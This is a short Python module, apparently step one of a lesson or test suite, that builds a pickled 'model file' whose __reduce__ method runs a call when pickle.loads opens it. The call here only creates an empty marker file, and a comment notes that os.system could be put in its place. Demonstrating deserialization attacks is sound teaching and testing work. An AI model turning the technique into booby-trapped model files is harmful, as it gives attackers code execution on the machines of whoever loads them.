"""Step 1: a pickle that runs code when it is loaded.

The effect here is harmless (it creates an empty marker file), so the tests can see that
code ran. An attacker would call os.system or subprocess.run in exactly the same way.
"""

import pathlib
import pickle


class MaliciousModel:
    """Looks like a model in a file name; its pickle tells the loader to create `marker`."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        # "To rebuild me, call Path.touch on this path": pickle.loads makes that call.
        return (pathlib.Path.touch, (pathlib.Path(self.marker),))


def craft_payload(marker: str) -> bytes:
    """The bytes of a 'model file' that creates `marker` when anyone calls pickle.loads on it."""
    return pickle.dumps(MaliciousModel(marker))
